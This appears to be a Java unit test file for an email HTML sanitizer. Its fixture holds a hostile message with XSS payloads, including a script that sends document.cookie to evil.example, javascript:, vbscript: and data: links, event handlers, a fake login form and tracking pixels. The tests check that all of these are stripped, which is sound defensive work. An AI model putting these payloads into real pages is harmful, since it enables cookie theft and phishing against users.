package dev.omnibridge.connector.email.mime;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/** HTML from strangers ends up in the agent UI: nothing in it may run, load, submit or restyle. */
class HtmlSafetyTest {

    private static final String HOSTILE_HTML = """
            <html><head>
            <meta http-equiv="refresh" content="0;url=https://evil.example/">
            <base href="https://evil.example/">
            <link rel="stylesheet" href="https://evil.example/x.css">
            <style>body { display:none } .x { background:url(https://evil.example/t.gif) }</style>
            <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
            </head>
            <body onload="alert(1)">
            <p style="position:fixed;top:0;left:0;width:100%;height:100%" class="x">Dear support, my order is late.</p>
            <img src="x" onerror="alert(2)">
            <img src="https://tracker.example/open.gif?u=123" width="1" height="1">
            <img src="http://tracker.example/pixel.png">
            <img src="data:image/png;base64,iVBORw0KGgo=" alt="data">
            <img src="cid:logo@acme" alt="logo">
            <a href="javascript:alert(3)">click me</a>
            <a href="jav&#x09;ascript:alert(4)">tab trick</a>
            <a href="vbscript:msgbox(5)">vb</a>
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>
            <a href="https://acme.example/track/123" target="_blank" onclick="steal()">Track order</a>
            <a href="mailto:help@acme.example">mail us</a>
            <iframe src="https://evil.example/frame">framed text</iframe>
            <object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>
            <form action="https://evil.example/login" method="post">Password: <input type="password" name="pw">\
            <textarea>typed secret</textarea><select><option>opt</option></select><button>Log in</button></form>
            <svg onload="alert(7)"><circle r="5"/></svg>
            <div onmouseover="alert(8)"><b>Order</b> <i>#1234</i></div>
            <table border="1"><tr><td onclick="x()">Cell</td></tr></table>
            </body></html>
            """;

    private static String sanitizedHostileMail() throws Exception {
        ParsedMail mail = new MailParser(1024).parse(RawMail.of("""
                From: mallory@evil.example
                Subject: hostile
                Message-ID: <hostile@evil.example>
                MIME-Version: 1.0
                Content-Type: text/html; charset=utf-8

                """ + HOSTILE_HTML));
        return mail.html();
    }

    @Test
    void scriptsStylesFramesFormsAndMetaAreRemovedWithTheirContent() throws Exception {
        String html = sanitizedHostileMail();

        assertThat(html.toLowerCase())
                .doesNotContain("<script").doesNotContain("document.cookie")
                .doesNotContain("<style").doesNotContain("display:none")
                .doesNotContain("<iframe").doesNotContain("framed text")
                .doesNotContain("<object").doesNotContain("<embed")
                .doesNotContain("<form").doesNotContain("<input").doesNotContain("<button").doesNotContain("log in")
                .doesNotContain("<textarea").doesNotContain("typed secret").doesNotContain("<select")
                .doesNotContain("<meta").doesNotContain("<link").doesNotContain("<base")
                .doesNotContain("<svg")
                .doesNotContain("evil.example");
    }

    @Test
    void noEventHandlersStyleOrClassAttributesSurvive() throws Exception {
        Document doc = Jsoup.parseBodyFragment(sanitizedHostileMail());

        for (Element el : doc.body().getAllElements()) {
            for (Attribute attr : el.attributes()) {
                assertThat(attr.getKey()).doesNotStartWith("on").isNotIn("style", "class", "target");
            }
        }
    }

    @Test
    void remoteAndDataImagesAreRemovedEntirelyButCidImagesStay() throws Exception {
        Document doc = Jsoup.parseBodyFragment(sanitizedHostileMail());

        assertThat(doc.select("img")).singleElement().satisfies(img -> {
            assertThat(img.attr("src")).isEqualTo("cid:logo@acme");
            assertThat(img.attr("alt")).isEqualTo("logo");
        });
        assertThat(sanitizedHostileMail()).doesNotContain("tracker.example").doesNotContain("data:");
    }

    @Test
    void scriptLinksLoseTheirHrefAndSafeLinksGetNoopenerNoreferrerNofollow() throws Exception {
        Document doc = Jsoup.parseBodyFragment(sanitizedHostileMail());

        for (Element a : doc.select("a")) {
            assertThat(a.attr("rel")).isEqualTo("noopener noreferrer nofollow");
            assertThat(a.attr("href")).satisfiesAnyOf(
                    href -> assertThat(href).isEmpty(),
                    href -> assertThat(href).startsWith("https://"),
                    href -> assertThat(href).startsWith("mailto:"));
        }
        assertThat(doc.select("a[href]")).extracting(a -> a.attr("href"))
                .containsExactly("https://acme.example/track/123", "mailto:help@acme.example");
        assertThat(doc.select("a")).extracting(Element::text).contains("click me", "tab trick", "vb", "data link");
    }

    @Test
    void harmlessFormattingAndTextSurvive() throws Exception {
        String html = sanitizedHostileMail();

        assertThat(html).contains("<p>Dear support, my order is late.</p>")
                .contains("<b>Order</b> <i>#1234</i>")
                .contains("<td>Cell</td>");
    }

    @Test
    void textDerivedFromHostileHtmlContainsNoCodeOrStyleText() throws Exception {
        ParsedMail mail = new MailParser(1024).parse(RawMail.of("""
                From: mallory@evil.example
                Subject: hostile
                Message-ID: <hostile-text@evil.example>
                Content-Type: text/html; charset=utf-8

                """ + HOSTILE_HTML));

        assertThat(mail.text()).contains("Dear support, my order is late.")
                .contains("Track order (https://acme.example/track/123)")
                .contains("mail us (help@acme.example)")
                .doesNotContain("document.cookie").doesNotContain("display:none").doesNotContain("typed secret");
    }

    @Test
    void sanitizerCanBeUsedOnItsOwnForOutboundOrDeskHtml() {
        assertThat(HtmlSanitizer.sanitize("<p onclick=\"x()\">Hi <script>y()</script><a href=\"http://a.example\">a</a></p>"))
                .isEqualTo("<p>Hi <a href=\"http://a.example\" rel=\"noopener noreferrer nofollow\">a</a></p>");
        assertThat(HtmlSanitizer.sanitize((String) null)).isNull();
    }
}
